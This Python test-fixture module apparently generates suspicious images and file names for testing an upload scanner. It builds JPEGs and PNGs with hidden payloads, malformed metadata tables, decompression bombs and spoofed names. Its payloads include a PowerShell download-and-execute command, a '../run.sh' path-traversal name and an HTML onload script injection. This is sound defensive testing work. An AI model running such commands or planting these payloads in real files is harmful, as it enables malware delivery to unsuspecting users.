"""Pictures that hide something where viewers do not look: notes, private chunks, reserved segments, names."""

import gzip
import struct
import zlib
from collections.abc import Iterator

from tests.applicants.documents import corpus_files as parts
from tests.applicants.documents.corpus_everyday import samsung_notes

POWERSHELL = b"powershell -NoProfile -Command \"iex (New-Object Net.WebClient).DownloadString('x')\"\r\n" * 3
PAYLOADS = {
    "gzip": gzip.compress(b"payload" * 40, mtime=0),
    "a PowerShell text": POWERSHELL,
    "xz": b"\xfd7zXZ\0\0\4" + bytes(99),
    "a cabinet": b"MSCF\0\0\0\0" + bytes(99),
}
TIME = (0x0A01, b"Image_UTC_Data", b"1700000000000")


def table(*notes: tuple[int, bytes, bytes], before: int = 0, count: int = 0, version: int = 106) -> bytes:
    """Return camera's notes (kind, name, text) and their table; ``before`` and ``count`` make it lie."""
    bodies = [struct.pack("<HHI", 0, kind, len(name)) + name + text for kind, name, text in notes]
    rows, left = b"", sum(map(len, bodies))
    for (kind, _, _), body in zip(notes, bodies, strict=True):
        rows += struct.pack("<HHII", 0, kind, left + before, len(body))
        left -= len(body)
    head = struct.pack("<4sII", b"SEFH", version, count or len(notes)) + rows
    return b"".join(bodies) + head + struct.pack("<I", len(head)) + b"SEFT"


def noted() -> Iterator[tuple[str, bytes]]:
    """Yield what is dressed as a camera's notes."""
    for what, body in PAYLOADS.items():
        yield f"{what} between the marks of notes", body + b"SEFH" + body + b"SEFT"
        yield f"{what} before the notes", body + samsung_notes()
        yield f"{what} in a note", table((0x0A01, b"Image_UTC_Data", body))
        yield f"{what} under a kind of its own", table(TIME, (0x7001, b"Own_Data", body))
    yield "a table that begins before the notes", table(TIME, before=20)
    yield "a table of more notes than there are", table(TIME, count=2)
    yield "a table of fewer notes than there are", table(TIME, (0x0AA1, b"MCC_Data", b"310"), count=1)
    yield "a table of a thousand million notes", table(TIME, count=10**9)
    yield "a note named as a path", table((0x0A01, b"../run.sh", b"id"))
    yield "a note of 90 kB without a kind", table((0x0A01, b"Image_UTC_Data", bytes(90_000)))
    yield "a film by its kind", table((0x0A30, b"MotionPhoto_Data", b"mpv2"))
    yield "a table's length beyond the file", samsung_notes()[:-8] + struct.pack("<I", 10**8) + b"SEFT"


def jpegs() -> Iterator[tuple[str, bytes]]:
    """Yield JPEGs with notes, and with segments that no camera writes."""
    for what, notes in noted():
        yield what, parts.picture() + notes
    for marker in (0x02, 0x4F, 0xBF, 0xF0, 0xF7, 0xFD):
        yield f"a reserved segment {marker:02X}", parts.jpeg_with(marker, b"anything")
    for what, body in PAYLOADS.items():
        yield f"{what} in a remark", parts.jpeg_with(0xFE, body)
        yield f"{what} in a segment of its own", parts.jpeg_with(0xEC, body)


def pngs() -> Iterator[tuple[str, bytes]]:
    """Yield PNGs with private chunks, packed remarks and profiles that hold something else."""
    for what, body in PAYLOADS.items():
        yield f"{what} in a private chunk", parts.png_with(parts.chunk(b"prVt", body))
        yield f"{what} in a chunk by Apple's name", parts.png_with(parts.chunk(b"iDOT", body))
        yield f"{what} as EXIF", parts.png_with(parts.chunk(b"eXIf", body))
        packed = parts.chunk(b"zTXt", b"Comment\0\0" + zlib.compress(body))
        yield f"{what} in a packed remark", parts.png_with(packed)
    yield "a private chunk of 300 kB", parts.png_with(parts.chunk(b"prVt", bytes(300_000)))
    yield "a private chunk behind the pixels", before_end(parts.chunk(b"zzZz", b"\x01" * 5000))
    yield "a page that reacts", parts.png_with(parts.chunk(b"tEXt", b"Title\0<html/onload=alert(1)>"))
    for many in (2, 60):
        remark = parts.chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(3_900_000), 9))
        yield f"{many} remarks of 4 MB each", parts.png_with(remark * many)


def before_end(chunk: bytes) -> bytes:
    """Return a PNG with a chunk before its end."""
    good = parts.picture("PNG")
    return good[:-12] + chunk + good[-12:]


def names() -> Iterator[tuple[str, bytes]]:
    """Yield a name and a good file that it would let pass for something else."""
    for name in (
        "cv.scf.pdf",
        "cv.desktop.jpg",
        "desktop.ini.png",
        "cv.inf.docx",
        "cv.chm.pdf",
        "cv\u202efdp.jpg",
        "cv\u202dgnp.png",
    ):
        kind = name.rpartition(".")[2]
        makers = {"pdf": parts.pdf, "docx": parts.docx, "jpg": parts.picture}
        yield name, makers[kind]() if kind in makers else parts.picture("PNG")


def everything() -> Iterator[tuple[str, str, bytes]]:
    """Yield every one as (what, name, bytes)."""
    for what, body in jpegs():
        yield f"JPEG with {what}", "photo.jpg", body
    for what, body in pngs():
        yield f"PNG with {what}", "photo.png", body
    for name, body in names():
        yield f"named {name!r}", name, body
